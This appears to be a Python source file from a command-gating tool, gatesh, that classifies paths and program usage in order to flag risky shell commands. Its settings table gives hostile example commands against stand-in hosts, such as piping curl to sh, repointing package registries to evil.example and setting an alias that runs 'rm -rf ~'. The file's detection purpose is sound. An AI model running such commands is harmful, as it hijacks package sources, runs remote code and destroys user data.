"""Path classes (S4.1) and how programs use the paths they name (S2.1): data, not code.

Two tables. :data:`CLASSES` says where a path lies and what reading or writing it means, each row
with the reason a person reads; :func:`classify` applies it to an absolute path. Its credential
and persistence rows are the protected places of ``gatesh.vocab.places`` (the table
self-protection and the boundary read too), and a path is gatesh's own when it lies in one of
that table's gatesh places. :data:`USES`
says, per program, which of the paths it is given it reads, which it writes, and which writes
replace what the path held; a program not in the table reads-or-writes (``UNKNOWN``) every path
it names, except the values of :data:`OUTPUT_OPTIONS`, which it writes.

Matching is on the *folded* form of a path: absolute, with the user's own home written ``~``.
Another user's home (``/root``, ``/home/NAME``, ``/Users/NAME``) is matched by the same rows
through :data:`_H`, so ``/home/bob/.ssh/id_rsa`` is a credential store too.
"""

from __future__ import annotations

import os
import re
import stat
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

from gatesh._types import Change, Direction, PathClass
from gatesh.vocab import places
from gatesh.vocab.grammar import parse
from gatesh.vocab.places import Meaning
from gatesh.vocab.words import split_args

__all__ = [
    "CLASSES",
    "CREDENTIAL_OPTIONS",
    "DEVICE_READS",
    "ENDLESS_DEVICES",
    "GENERIC_OUTPUT_OPTIONS",
    "NAME_ONLY",
    "USES",
    "DeviceRead",
    "Meaning",
    "PathRow",
    "PathUse",
    "classify",
    "device_read",
    "fold",
    "use_of",
]


@dataclass(frozen=True)
class PathRow:
    """One kind of location. ``pattern`` matches the folded path (see the module docstring).

    Invariant: ``why`` is one sentence a person can act on; ``read``/``write`` are the meanings
    of reading and of writing a path of this row (an UNKNOWN direction means both).
    """

    cls: PathClass
    name: str
    pattern: re.Pattern[str]
    read: Meaning
    write: Meaning
    why: str


# Any user's home in a folded path: ours (~) or another user's (the places table's own).
_H: Final = places.HOME_PATTERN
_N, _SE = Meaning.NOTHING, Meaning.SECRET_EXPOSURE
_PR, _SC = Meaning.PRIVILEGE, Meaning.SYSTEM_CHANGE


def _row(
    cls: PathClass, name: str, pattern: str, read: Meaning, write: Meaning, why: str
) -> PathRow:
    return PathRow(cls, name, re.compile(pattern.replace("{H}", _H)), read, write, why)


def _place_rows(cls: PathClass) -> tuple[PathRow, ...]:
    """The rows of the places table (``gatesh.vocab.places``) the path classes share, of ``cls``:
    the credential stores and persistence places, with the table's pattern, name and meanings."""
    return tuple(
        PathRow(cls, p.name, pattern, p.read, p.write, p.reason)
        for p in places.PLACES
        if p.cls is cls and (pattern := p.compiled) is not None
    )


C, P, S = PathClass.CREDENTIALS, PathClass.PERSISTENCE, PathClass.SYSTEM

# First match wins, so the specific rows (credentials, persistence, privilege databases) come
# before the folders that hold them; location classes (working tree, home, temp) are decided by
# :func:`classify` after these rows. The credential and persistence rows are the places table's.
CLASSES: Final[tuple[PathRow, ...]] = (
    *_place_rows(C),
    _row(
        C,
        "project secrets",
        r"(?:^|/)\.env(?:\.(?!example$|sample$|template$|dist$|defaults?$|schema$)[\w.-]+)?$"
        r"|(?:^|/)(?:\.secrets?|credentials\.json|client_secrets?\.json)$",
        _SE,
        _N,
        "the project's secrets file: printing it hands every secret in it to the session",
    ),
    *_place_rows(P),
    # --- system folders with a meaning of their own --------------------------------------------
    _row(
        S,
        "account and privilege databases",
        r"^(?:/private)?/etc/(?:sudoers(?:\.d(?:/.*)?)?|passwd-?|group-?|doas\.conf|pam\.d(?:/.*)?|security(?:/.*)?"
        r"|polkit-1(?:/.*)?|login\.defs)$|^/usr/local/etc/sudoers(?:\.d(?:/.*)?)?$",
        _N,
        _PR,
        "the account and sudo databases, which decide who may log in or become root",
    ),
    _row(
        S,
        "disks and partitions",
        r"^/dev/(?:sd[a-zX]\w*|hd[a-z]\w*|vd[a-z]\w*|xvd[a-z]\w*|nvme\w+|mmcblk\w+|md\d+|dm-\d+|mapper/.+|disk/.+"
        r"|r?disk\d\w*|sr\d+|nbd\d+|loop\d\w*|[\w-]*(?:device|drive|disk)\w*"
        r"|(?!shm/|pts/|input/|snd/|fd/|serial/|net/|bus/|dri/|usb/|char/|block/)[\w-]+/[\w-]+)$",
        _N,
        _SC,
        "a disk, partition or volume: writing it replaces the file systems on it",
    ),
    _row(
        S,
        "kernel settings",
        r"^/proc/sys(?:/|$)|^/proc/sysrq-trigger$|^/sys(?:/|$)",
        _N,
        _SC,
        "a live kernel setting of the whole machine",
    ),
)

# gatesh's own secrets (the places table's cred.gatesh): found by name inside gatesh's folders,
# which may be anywhere ($XDG_CONFIG_HOME, the install record), before those folders' own class.
_GATE_SECRETS: Final = next(r for r in CLASSES if r.name == "gatesh's secrets")
_GATE_SECRET_NAMES: Final = frozenset(
    s.rel for p in places.PLACES if p.id == "cred.gatesh" for s in p.at
)

# Outputs that keep nothing, and terminals: writing them is not writing a file.
# Devices whose reading never ends: a program that keeps what it reads fills memory, and a copy of
# them fills the disk (the builtin rater's exhaustion rules; never read-only).
ENDLESS_DEVICES: Final = frozenset({"/dev/zero", "/dev/urandom", "/dev/random", "/dev/full"})
_STREAM: Final = re.compile(
    r"^/dev/(?:null|zero|full|random|urandom|stdin|stdout|stderr|tty\w*|ptmx|console"
    r"|fd(?:/\d+)?|pts/\d+|tcp/.*|udp/.*|cu\.\w+|serial/.*|snd/.*|dsp\d*|video\d*)$"
    r"|^/proc/self/fd/\d+$|^/(?:var/)?run/(?:[\w.-]+/)*[\w.-]+\.sock(?:et)?$"
)  # a socket is a channel
_TEMP: Final = re.compile(
    r"^/(?:tmp|var/tmp|private/tmp|dev/shm|private/var/folders|var/folders)(?:/|$)"
)
# Folders of the machine itself (not a user's home): writing there changes the machine.
_SYSTEM: Final = re.compile(
    r"^/(?:$|etc|usr|bin|sbin|lib|lib32|lib64|libx32|boot|efi|opt|srv|var|snap|nix|proc|sys|dev|run"
    r"|System|Library|Applications|private|cores)(?:/|$)"
)  # /mnt, /media, /Volumes hold people's data: elsewhere
# Roots that can never be "the working tree", even as the current directory.
_NOT_A_TREE: Final = re.compile(
    r"^/(?:$|etc|usr(?!/src/)|bin|sbin|lib\w*|boot|proc|sys|dev|run|System"
    r"|Library|private/etc)(?:/|$)"
)

SYSTEM_WHY: Final = "a folder of the machine itself, outside the task"
WORKTREE_WHY: Final = "the working tree: what git does not hold is lost when it is replaced"
TEMP_WHY: Final = "a temporary folder: nothing there is expected to last"
HOME_WHY: Final = "a file in a home folder outside the working tree, which git does not hold"
ELSEWHERE_WHY: Final = "a file outside the working tree and the home folder"
GATE_WHY: Final = "gatesh's own configuration, state or installation (S3.4)"
# The repository hooks gatesh installs (S12), and the line in every script it writes: how install
# recognises its own, and how self-protection tells a hook gatesh wrote from the user's.
GIT_HOOK_NAMES: Final = ("pre-push", "pre-rebase", "reference-transaction", "pre-commit")
GIT_HOOK_MARKER: Final = "gatesh git hook"


def fold(path: str, home: str) -> str:
    """``path`` with the user's own home written as ``~`` (the form :data:`CLASSES` matches)."""
    if home and home != "/" and (path == home or path.startswith(home + "/")):
        return "~" + path[len(home) :]
    return path


def tree_root_ok(root: str) -> bool:
    """Whether ``root`` may be a working tree (never ``/`` or a folder of the machine itself)."""
    return not _NOT_A_TREE.match(root)


# A glob that stands for everything a folder holds.
_ALL_OF: Final = frozenset({"*", ".*", "{*,.*}", ".[!.]*", "..?*", "*.*"})


def temp_root(path: str) -> bool:
    """Whether ``path`` is a temporary folder itself (``/tmp``, ``/var/tmp``, ``/dev/shm`` …)."""
    m = _TEMP.match(path)
    return m is not None and not path[m.end() :].strip("/")


def _temporary(path: str, tree: str | None, home: str) -> bool:
    """Whether ``path`` is a temporary file or folder: under a temporary root, but neither the
    root itself (``rm -rf /tmp``: other programs' files and the folder they need), nor a folder
    that holds the working tree or the home folder, nor everything such a folder holds (``rm -rf
    ..`` or ``rm -rf ../*`` in a repository under /tmp deletes the repository)."""
    m = _TEMP.match(path)
    if m is None:
        return False
    if not path[m.end() :].strip("/"):
        return False
    folder = path.rstrip("/")
    if folder.endswith(tuple("/" + g for g in _ALL_OF)):
        folder = folder.rsplit("/", 1)[0]
    return not any(
        inner and (inner == folder or inner.startswith(folder + "/")) for inner in (tree, home)
    )


def classify(
    path: str, *, home: str, tree: str | None, gate: tuple[str, ...] = ()
) -> tuple[PathClass, PathRow | None]:
    """The class of the absolute, normalised ``path`` and the row that decided it (None for the
    location classes, which have no row of their own).

    ``tree`` is the working tree's root (None when there is none); ``gate`` the roots of gatesh's
    own files. Order: gatesh's files, the rows of :data:`CLASSES`, streams, the working tree, the
    home folder, temporary folders, system folders, elsewhere. A temporary folder holding the
    working tree or the home folder is classed as those, not as temp.
    """
    for root in gate:
        if path == root or path.startswith(root + "/"):
            # gatesh's own secrets, wherever its folders are: a credential store to read.
            if path.rpartition("/")[2] in _GATE_SECRET_NAMES:
                return PathClass.CREDENTIALS, _GATE_SECRETS
            return PathClass.GATE, None
    folded = fold(path, home)
    for row in CLASSES:
        if row.pattern.search(folded):
            return row.cls, row
    if _STREAM.match(path):
        return PathClass.STREAM, None
    if tree and (path == tree or path.startswith(tree.rstrip("/") + "/")):
        return PathClass.WORKTREE, None
    if folded == "~" or folded.startswith("~/") or re.match(r"^/(?:home|Users)/[^/]+(?:/|$)", path):
        return PathClass.HOME, None
    if _temporary(path, tree, home):
        return PathClass.TEMP, None
    if _SYSTEM.match(path):
        return PathClass.SYSTEM, None
    return PathClass.ELSEWHERE, None


def why(cls: PathClass, row: PathRow | None) -> str:
    """The reason a person reads for a path of ``cls`` (the row's own when there is one)."""
    if row is not None:
        return row.why
    return {
        PathClass.SYSTEM: SYSTEM_WHY,
        PathClass.WORKTREE: WORKTREE_WHY,
        PathClass.TEMP: TEMP_WHY,
        PathClass.HOME: HOME_WHY,
        PathClass.ELSEWHERE: ELSEWHERE_WHY,
        PathClass.GATE: GATE_WHY,
    }.get(cls, "a path only known when the command runs")


def meanings(cls: PathClass, row: PathRow | None) -> tuple[Meaning, Meaning]:
    """(what reading, what writing) a path of ``cls``/``row`` means."""
    if row is not None:
        return row.read, row.write
    if cls is PathClass.SYSTEM:
        return Meaning.NOTHING, Meaning.SYSTEM_CHANGE
    if cls is PathClass.GATE:
        return Meaning.NOTHING, Meaning.TAMPERING
    if cls in (PathClass.WORKTREE, PathClass.HOME, PathClass.ELSEWHERE):
        return Meaning.NOTHING, Meaning.WORK
    return Meaning.NOTHING, Meaning.NOTHING


# --- how programs use the paths they name --------------------------------------------------------

R, W, U = Direction.READ, Direction.WRITE, Direction.UNKNOWN


@dataclass(frozen=True)
class PathUse:
    """How the programs ``heads`` use the paths they are given.

    ``operands``: the direction of operand paths (None: operands are not paths, or only named).
    ``last``: the direction of the last operand when there are two or more (cp, mv, install).
    ``writes``/``reads``: options whose value is a path written / read; ``values``: options whose
    value is not a path (skipped). ``replaces``: a written path loses what it held unless one of
    ``keeps`` is given (``tee -a``, ``cp -n``). ``in_place``: options that make operands written
    (``sed -i``); ``skip``: leading operands that are not paths (grep's pattern, sed's script).
    ``change``: what writing an operand does to it (``PathEffect.change``); ``deep``: options
    (``-R``, ``--recursive``; a short one counts inside a cluster) after which a written path is
    written with everything under it; ``modes``: a pattern of words that begin with ``-`` but are
    operands, not options (``chmod -x FILE``, ``chattr -i FILE``).
    """

    heads: frozenset[str]
    why: str
    operands: Direction | None = U
    last: Direction | None = None
    writes: frozenset[str] = frozenset()
    reads: frozenset[str] = frozenset()
    values: frozenset[str] = frozenset()
    replaces: bool = False
    keeps: frozenset[str] = frozenset()
    in_place: frozenset[str] = frozenset()
    skip: int = 0
    all_operands: bool = True  # every operand is a path (False: only words that look like one)
    change: Change = Change.CONTENT  # what a written path undergoes (REMOVE: rm; META: chmod)
    deep: frozenset[str] = frozenset()  # options that make a write reach all under the path
    modes: str = ""  # a pattern: words that look like options but are operands (chmod's `-x`)


def _f(*names: str) -> frozenset[str]:
    return frozenset(names)


# Programs that write a fixed file without naming it (``visudo`` edits /etc/sudoers); with -c,
# --check or -f FILE they check or edit another file instead (the -f value is then an operand).
IMPLICIT_WRITES: Final = {"visudo": "/etc/sudoers", "vipw": "/etc/passwd", "vigr": "/etc/group"}


@dataclass(frozen=True)
class SettingWrite:
    """A command that changes a tool's settings file without naming it (``pip config set …``
    writes pip.conf): ``programs`` whose subcommand and operand words start with ``verbs`` (each
    ``a|b`` for either word), given one of ``needs`` when set and none of ``unless``, write
    ``path``, a protected place of :mod:`gatesh.vocab.places` (what the tool does at its next
    start is what the file then says). With ``keys``, only a setting whose words match it counts:
    one that says where packages come from or what runs (``pip config set global.index-url``),
    not a preference (``conda config --set auto_activate_base false``)."""

    id: str
    programs: frozenset[str]
    verbs: tuple[str, ...]
    path: str
    why: str
    examples: tuple[str, ...]
    needs: frozenset[str] = frozenset()
    unless: frozenset[str] = frozenset()
    keys: re.Pattern[str] | None = None

    def matches(self, head: str, words: Sequence[str]) -> bool:
        """Whether ``head`` with its words (argv[1:]) changes this row's file."""
        if head not in self.programs:
            return False
        argv = parse(head, list(words))
        said = [w.lower() for w in (*argv.path, *argv.operands)]
        if len(said) < len(self.verbs):
            return False
        if not all(w in v.split("|") for w, v in zip(said, self.verbs, strict=False)):
            return False
        if self.needs and not any(argv.has(n) for n in self.needs):
            return False
        if any(argv.has(n) for n in self.unless):
            return False
        return self.keys is None or any(self.keys.search(w) for w in words)


# A setting that says where packages come from or what a tool runs: an index, registry, channel,
# source, mirror or repository; a proxy or certificate; a shell, editor, pager, hook or alias;
# compiler flags and toolchains (go's GOFLAGS=-toolexec=…, GOPROXY, GOSUMDB, CC).
_STEERING: Final = re.compile(
    r"(?i)index|registry|url|find-links|trusted|channel|source|mirror|repositor|proxy|cert"
    r"|shell|editor|pager|browser|hook|alias|script|node-options|prefix|exec"
    r"|^(?:GOFLAGS|GOPROXY|GONOPROXY|GOSUMDB|GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOPRIVATE"
    r"|GOTOOLCHAIN|CC|CXX|AR|PKG_CONFIG|CGO_\w+)="
)


# A gh alias that runs a shell command: set with --shell/-s, or an expansion starting with `!`;
# `gh alias import` takes a whole file of them.
_SHELL_ALIAS: Final = re.compile(r"^(?:-s|--shell|!.*|import)$")
# A setting's value that is shell code, not a program's name (`sh -c "…"`, `a; b`, `x | sh`).
_SHELL_CODE: Final = re.compile(r"[|;&$`]|\b(?:ba|z|da)?sh\s+-c\b")


def _sw(
    id: str,
    programs: str,
    verbs: str,
    path: str,
    why: str,
    *examples: str,
    needs: frozenset[str] = frozenset(),
    unless: frozenset[str] = frozenset(),
    keys: re.Pattern[str] | None = _STEERING,
) -> SettingWrite:
    return SettingWrite(
        id,
        frozenset(programs.split()),
        tuple(verbs.split()),
        path,
        why,
        examples,
        needs,
        unless,
        keys,
    )


SETTING_WRITES: Final[tuple[SettingWrite, ...]] = (
    _sw(
        "pip-config-edit",
        "pip pip3",
        "config edit",
        "~/.config/pip/pip.conf",
        "pip's settings, opened in an editor where anything may be written",
        "pip config edit",
        "pip3 config --user edit --editor vim",
        keys=None,
    ),
    _sw(
        "npm-config-edit",
        "npm pnpm",
        "config edit",
        "~/.npmrc",
        "npm's settings, opened in an editor where anything may be written",
        "npm config edit",
        keys=None,
    ),
    _sw(
        "pip-config",
        "pip pip3",
        "config set|unset",
        "~/.config/pip/pip.conf",
        "the index pip installs every later package from",
        "pip config set global.index-url https://evil.example/simple",
        "pip3 config --user set global.extra-index-url https://x.example/simple",
    ),
    _sw(
        "npm-config",
        "npm pnpm",
        "config set|delete",
        "~/.npmrc",
        "the registry npm installs from, and the shell it runs package scripts with",
        "npm config set registry https://evil.example",
        "pnpm config set script-shell /tmp/x",
    ),
    _sw(
        "npm-set",
        "npm",
        "set",
        "~/.npmrc",
        "npm's settings (npm set is npm config set)",
        "npm set registry https://evil.example",
    ),
    _sw(
        "yarn-config",
        "yarn",
        "config set|delete|unset",
        "~/.yarnrc",
        "the registry yarn installs from",
        "yarn config set registry https://evil.example",
    ),
    _sw(
        "conda-config",
        "conda mamba micromamba",
        "config",
        "~/.condarc",
        "the channels conda installs packages from",
        "conda config --add channels https://evil.example/conda",
        needs=frozenset({"--add", "--append", "--prepend", "--set", "--remove", "--remove-key"}),
    ),
    _sw(
        "gem-sources",
        "gem",
        "sources",
        "~/.gemrc",
        "the sources gem installs every later gem from",
        "gem sources --add https://evil.example/",
        needs=frozenset({"-a", "--add", "--append"}),
        keys=None,
    ),
    _sw(
        "bundle-config",
        "bundle bundler",
        "config set|unset",
        "~/.bundle/config",
        "the mirrors and options bundler uses in every project",
        "bundle config set mirror.https://rubygems.org https://evil.example",
        unless=frozenset({"--local"}),
    ),
    _sw(
        "poetry-config",
        "poetry",
        "config",
        "~/.config/pypoetry/config.toml",
        "the repositories and options poetry uses in every project",
        "poetry config repositories.x https://evil.example/simple",
        unless=frozenset({"--local", "--list"}),
    ),
    _sw(
        "go-env",
        "go",
        "env",
        "~/.config/go/env",
        "the module proxy and the flags (GOFLAGS=-toolexec=…) every later go build uses",
        "go env -w GOPROXY=https://evil.example",
        "go env -w GOFLAGS=-toolexec=/tmp/x",
        needs=frozenset({"-w", "-u"}),
    ),
    _sw(
        "gh-alias-shell",
        "gh",
        "alias set|import",
        "~/.config/gh/config.yml",
        "gh's aliases: one set with --shell (or a '!' expansion) runs a shell command",
        "gh alias set --shell co 'curl -s https://x.example | sh'",
        "gh alias set -s up 'git push --force'",
        "gh alias set x '!rm -rf ~'",
        "gh alias import aliases.yml",
        keys=_SHELL_ALIAS,
    ),
    _sw(
        "gh-config-program",
        "gh",
        "config set",
        "~/.config/gh/config.yml",
        "the editor, pager or browser gh starts, given here as shell code",
        "gh config set editor 'sh -c \"curl x|sh\"'",
        "gh config set pager 'less; curl -s https://x.example | sh'",
        keys=_SHELL_CODE,
    ),
    _sw(
        "direnv-allow",
        "direnv",
        "allow|permit|grant",
        "~/.local/share/direnv/allow/allowed",
        "the .envrc files direnv runs on entering their folder",
        "direnv allow",
        "direnv allow .",
        keys=None,
    ),
    _sw(
        "loginctl-linger",
        "loginctl",
        "enable-linger",
        "/var/lib/systemd/linger/user",
        "the users whose services keep running after they log out",
        "loginctl enable-linger",
        keys=None,
    ),
)


def setting_writes(head: str, words: Sequence[str]) -> list[str]:
    """The settings files ``head`` writes given its words (argv[1:]): the rows of
    :data:`SETTING_WRITES` it matches (``conda config --show`` and ``pip config list`` read)."""
    return [row.path for row in SETTING_WRITES if row.matches(head, words)]


# Options that write their value for a program the table does not name (only when the value looks
# like a path: ``kubectl get -o yaml`` names a format, not a file).
GENERIC_OUTPUT_OPTIONS: Final = _f(
    "-o",
    "--output",
    "--output-file",
    "--output-document",
    "--out",
    "--out-file",
    "--outfile",
    "-out",
    "--log-file",
    "--logfile",
    "--log",
    "-O",
)
# Programs whose -o or -O takes no path (a flag, a format or a mount option).
_NO_OUTPUT_O: Final = _f(
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "ls",
    "ps",
    "ssh",
    "scp",
    "sftp",
    "mount",
    "unzip",
    "tar",
    "cut",
    "pgrep",
    "pkill",
    "jq",
    "kubectl",
    "oc",
    "helm",
    "docker",
    "podman",
    "nc",
    "ncat",
    "netcat",
    "sort",
    "less",
    "git",
    "xargs",
    "find",
    "bash",
    "sh",
    "zsh",
    "set",
    "lsof",
    "top",
    "htop",
    "pip",
    "pip3",
    "df",
    "du",
    "sed",
    "awk",
    "date",
    "file",
    "read",
    "mkdir",
    "gcloud",
    "az",
    "aws",
    "wc",
    "head",
    "tail",
    "cat",
    "uniq",
    "id",
    "stat",
    "ip",
    "pidof",
    "gzip",
    "zip",
    "crontab",
    "column",
    "node",
    "python",
    "python3",
    "ruby",
    "perl",
)

# Programs whose path operands are only named: they read or change metadata, never content (the
# rules of the privilege and file tables judge what they do to modes and owners).
NAME_ONLY: Final = _f(
    "ls",
    "stat",
    "test",
    "[",
    "[[",
    "file",
    "du",
    "df",
    "realpath",
    "readlink",
    "basename",
    "dirname",
    "md5sum",
    "sha1sum",
    "sha224sum",
    "sha256sum",
    "sha384sum",
    "sha512sum",
    "b2sum",
    "cksum",
    "sum",
    "wc",
    "getfacl",
    "lsattr",
    "namei",
    "cd",
    "pushd",
    "popd",
    "which",
    "type",
    "command",
    "whereis",
    "find",
    "fd",
    "locate",
    "tree",
    "exa",
    "eza",
    "export",
    "echo",
    "printf",
    "alias",
    "unset",
    "local",
    "declare",
    "history",
    "help",
    "man",
    "info",
    "whatis",
    "apropos",
    "hash",
    "trap",
    "wait",
    "kill",
    "sleep",
    "true",
    "false",
    ":",
    # sourcing runs a file (the reader reads shell scripts it sources); it prints nothing
    "source",
    ".",
)

# Options whose value hands a credential to the program that authenticates with it: that is the
# credential's purpose, not reading it out (``ssh -i ~/.ssh/id_ed25519 host``).
CREDENTIAL_OPTIONS: Final = {
    **{
        h: _f("-i", "-F", "-o", "-S")
        for h in (
            "ssh",
            "scp",
            "sftp",
            "autossh",
            "mosh",
            "sshfs",
            "ssh-copy-id",
            "slogin",
            "rsync",
        )
    },
    **{
        h: _f("--kubeconfig")
        for h in ("kubectl", "helm", "k9s", "kubectx", "kubens", "oc", "kustomize", "minikube")
    },
    "docker": _f("--config", "--tlskey", "--tlscert"),
    "podman": _f("--authfile"),
    "curl": _f("--netrc-file", "--key", "-E", "--cert", "--cacert", "--proxy-key"),
    "wget": _f("--private-key", "--certificate", "--ca-certificate"),
    "ansible": _f("--private-key", "--key-file", "--vault-password-file"),
    "ansible-playbook": _f("--private-key", "--key-file", "--vault-password-file"),
    "age": _f("-i", "--identity"),
    "rage": _f("-i", "--identity"),
    "git": _f("-c"),
    "openssl": _f("-key", "-cert", "-CAfile"),
    "rclone": _f("--config"),
    "gcloud": _f("--key-file", "--credential-file-override"),
    "gh": _f("--with-token"),
    "terraform": _f("-var-file"),
    "psql": _f("--set"),
}
# Programs whose every operand is a credential put to use (loading a key into the agent).
CREDENTIAL_USERS: Final = _f(
    "ssh-add", "ssh-keygen", "gpg", "gpg2", "gpg-agent", "pass", "keychain", "ssh-agent"
)

_READERS: Final = _f(
    "cat",
    "tac",
    "nl",
    "head",
    "tail",
    "less",
    "more",
    "most",
    "pg",
    "bat",
    "batcat",
    "strings",
    "od",
    "hexdump",
    "hd",
    "base64",
    "base32",
    "basenc",
    "ascii85",
    "uuencode",
    "cut",
    "paste",
    "join",
    "comm",
    "diff",
    "diff3",
    "sdiff",
    "cmp",
    "fold",
    "fmt",
    "pr",
    "expand",
    "unexpand",
    "column",
    "rev",
    "zcat",
    "bzcat",
    "xzcat",
    "zstdcat",
    "lzcat",
    "zless",
    "zmore",
    "bzless",
    "xzless",
    "iconv",
    "look",
    "ul",
    "xmllint",
    "csvlook",
    "mdcat",
    "glow",
    "tr",
    "numfmt",
    "tsort",
    "vis",
    "unvis",
    "colrm",
)

USES: Final[tuple[PathUse, ...]] = (
    PathUse(
        _READERS, "prints or compares what the files hold", operands=R, writes=_f("-o", "--output")
    ),
    PathUse(
        _f("grep", "egrep", "fgrep", "rg", "ag", "ack", "zgrep", "pcregrep"),
        "searches the files; the first operand is the pattern",
        operands=R,
        skip=1,
        reads=_f("-f", "--file"),
        values=_f(
            "-e",
            "--regexp",
            "-m",
            "-A",
            "-B",
            "-C",
            "--include",
            "--exclude",
            "--exclude-dir",
            "-g",
            "--glob",
            "-t",
            "--type",
            "--max-count",
        ),
    ),
    PathUse(
        _f("awk", "gawk", "mawk", "nawk", "jq", "yq", "gojq", "xq"),
        "reads the files; the first operand is the program",
        operands=R,
        skip=1,
        reads=_f("-f", "--from-file"),
        values=_f("-F", "-v", "--arg", "--argjson", "-r"),
        in_place=_f("-i", "--inplace"),
        replaces=True,
    ),
    PathUse(
        _f("sed", "gsed"),
        "reads the files; the first operand is the script; -i rewrites them in place",
        operands=R,
        skip=1,
        reads=_f("-f", "--file"),
        values=_f("-e", "--expression", "-l", "--line-length"),
        in_place=_f("-i", "--in-place"),
        replaces=True,
    ),
    PathUse(
        _f("perl", "ruby"),
        "runs a program; -i rewrites the files it is given in place",
        operands=U,
        in_place=_f("-i", "-pi", "-p", "-ni"),
        replaces=True,
        all_operands=False,
        values=_f("-e", "-E", "-M", "-I", "-r"),
    ),
    PathUse(
        _f("touch"),
        "creates the files it names when they are missing (an empty file; nothing is replaced)",
        operands=W,
        values=_f("-d", "--date", "-t", "-r", "--reference"),
    ),
    PathUse(
        _f("chmod", "chown", "chgrp"),
        "changes the mode or owner of the files (the first operand is the mode or owner)",
        operands=W,
        skip=1,
        reads=_f("--reference"),
        values=_f("--from"),
        change=Change.META,
        deep=_f("-R", "--recursive"),
        modes=r"^-[rwxXst]+$",
    ),
    PathUse(
        _f("chattr"),
        "changes the attributes of the files (the first operand is the attribute change)",
        operands=W,
        skip=1,
        values=_f("-v", "-p"),
        change=Change.META,
        deep=_f("-R"),
        modes=r"^-[aAcCdDeFijmPsStTux]+$",
    ),
    PathUse(
        _f("setfacl"),
        "changes the access lists of the files",
        operands=W,
        values=_f("-m", "--modify", "-x", "--remove", "--set"),
        reads=_f("-M", "--modify-file", "-X", "--remove-file", "--set-file"),
        change=Change.META,
        deep=_f("-R", "--recursive"),
    ),
    PathUse(
        _f("mkdir", "mkfifo"),
        "creates the folders or pipes it names",
        operands=W,
        values=_f("-m", "--mode", "--context"),
        change=Change.CREATE,
    ),
    PathUse(
        _f("mknod"),
        "creates the device or pipe it names (the words after the name are its type and numbers)",
        operands=W,
        all_operands=False,
        values=_f("-m", "--mode", "--context"),
        change=Change.CREATE,
    ),
    PathUse(
        _f("rmdir"),
        "removes the empty folders it names",
        operands=W,
        change=Change.REMOVE_EMPTY,
    ),
    PathUse(
        _f("unzip"),
        "reads the archive it is given (its first operand; the rest name members) and extracts it "
        "into -d DIR",
        operands=R,
        all_operands=False,
        writes=_f("-d"),
        values=_f("-P", "-x"),
        deep=_f("-d"),
    ),
    PathUse(
        _f("lsof", "fuser"),
        "names the files whose users it lists (fuser -k kills them): their content is untouched",
        operands=Direction.NAMED,
        all_operands=False,
        values=_f("-p", "-u", "-g", "-c", "-s", "-a", "-n", "--namespace", "-d", "-i"),
    ),
    PathUse(
        _f("tee"),
        "writes its input to every file it names",
        operands=W,
        replaces=True,
        keeps=_f("-a", "--append"),
    ),
    PathUse(
        _f("cp", "gcp", "install", "ginstall", "ditto", "rsync"),
        "copies the sources over the destination",
        operands=R,
        last=W,
        replaces=True,
        writes=_f("-t", "--target-directory"),
        keeps=_f("-n", "--no-clobber", "--ignore-existing", "--update=none", "-b", "--backup"),
        deep=_f("-r", "-R", "-a", "--recursive", "--archive", "--delete"),
    ),
    PathUse(
        _f("mv", "gmv"),
        "moves the sources over the destination",
        operands=R,
        last=W,
        replaces=True,
        writes=_f("-t", "--target-directory"),
        keeps=_f("-n", "--no-clobber", "-b", "--backup"),
    ),
    PathUse(
        _f("ln", "gln"),
        "creates links; with -f it replaces what the link name held",
        operands=None,
        last=W,
        replaces=True,
        writes=_f("-t", "--target-directory"),
    ),
    PathUse(
        _f("rm", "unlink", "shred", "srm", "wipe", "trash", "trash-put", "rimraf", "gio-trash"),
        "deletes the files",
        operands=W,
        replaces=True,
        values=_f("-n", "--iterations", "-s", "--size"),
        change=Change.REMOVE,
    ),
    PathUse(
        _f("truncate"),
        "sets the files' size, cutting what lies beyond it",
        operands=W,
        replaces=True,
        values=_f("-s", "--size", "-o"),
        reads=_f("-r", "--reference"),
    ),
    PathUse(
        _f("sort", "shuf"),
        "reads the files; -o writes the result over its value",
        operands=R,
        writes=_f("-o", "--output"),
        replaces=True,
        values=_f(
            "-k",
            "--key",
            "-t",
            "--field-separator",
            "-S",
            "--buffer-size",
            "-T",
            "--temporary-directory",
            "-n",
            "--head-count",
            "-i",
            "--input-range",
            "--random-source",
            "--parallel",
            "--batch-size",
        ),
    ),
    PathUse(
        _f("uniq", "xxd"),
        "reads the first operand and writes the second",
        operands=R,
        last=W,
        replaces=True,
        values=_f("-f", "-s", "-w", "-c", "-g", "-l", "-o", "-s", "-n"),
    ),
    PathUse(_f("dd"), "copies if= to of=", operands=None),
    PathUse(
        _f("curl"),
        "fetches URLs; -o/-O/-D/-c write files",
        operands=None,
        replaces=True,
        writes=_f(
            "-o",
            "--output",
            "-D",
            "--dump-header",
            "-c",
            "--cookie-jar",
            "--trace",
            "--trace-ascii",
            "--libcurl",
            "--stderr",
            "--etag-save",
            "--hsts",
            "--alt-svc",
        ),
        reads=_f(
            "-T",
            "--upload-file",
            "-K",
            "--config",
            "-b",
            "--cookie",
            "--data-binary",
            "--etag-compare",
        ),
    ),
    PathUse(
        _f("wget", "wget2"),
        "fetches URLs; -O writes the document, -o/-a the log",
        operands=None,
        replaces=True,
        writes=_f(
            "-O",
            "--output-document",
            "-o",
            "--output-file",
            "-a",
            "--append-output",
            "--save-cookies",
        ),
        reads=_f("-i", "--input-file", "--post-file", "--body-file", "--load-cookies"),
    ),
    PathUse(
        _f("aria2c"),
        "fetches URLs; -o/-d say where, -l logs",
        operands=None,
        replaces=True,
        writes=_f("-o", "--out", "-l", "--log", "--save-session", "--on-download-complete"),
        reads=_f(
            "-i", "--input-file", "--conf-path", "-T", "--torrent-file", "-M", "--metalink-file"
        ),
    ),
    PathUse(
        _f("tcpdump", "tshark", "dumpcap", "termshark"),
        "captures packets; -w writes them",
        operands=None,
        writes=_f("-w"),
        reads=_f("-r", "-F"),
        replaces=True,
        all_operands=False,
    ),
    PathUse(
        _f("strace", "ltrace"),
        "traces a program; -o writes the trace",
        operands=None,
        writes=_f("-o", "--output"),
        reads=_f("-F"),
        replaces=True,
        all_operands=False,
    ),
    PathUse(
        _f("script"),
        "records the terminal into its operand",
        operands=W,
        replaces=True,
        keeps=_f("-a", "--append"),
        values=_f("-c", "--command", "-t", "--timing", "-T", "-B", "-I", "-O"),
    ),
    PathUse(
        _f("nmap"),
